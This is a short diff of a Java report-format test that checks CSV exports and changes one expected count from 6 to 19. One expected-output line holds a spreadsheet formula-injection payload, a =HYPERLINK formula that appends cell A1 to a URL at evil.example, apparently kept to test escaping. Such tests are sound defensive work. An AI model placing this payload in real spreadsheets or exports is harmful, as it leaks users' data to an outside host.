@@ -148,7 +148,7 @@ class ReportFormatTests {
                         "\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\",Lifecycle Marketing Manager")
                 .contains(",2026-11-19,12,6,0,0,2,12,2026-11-20 07:00");
         assertThat(Files.readString(folder.resolve("report-Overview.csv")))
-                .contains("Applications sent", "30,,10,,64,,41,,3,,1", "By machines,,,,,6");
+                .contains("Applications sent", "30,,10,,64,,41,,3,,1", "By machines,,,,,19");
     }
 
     @Test
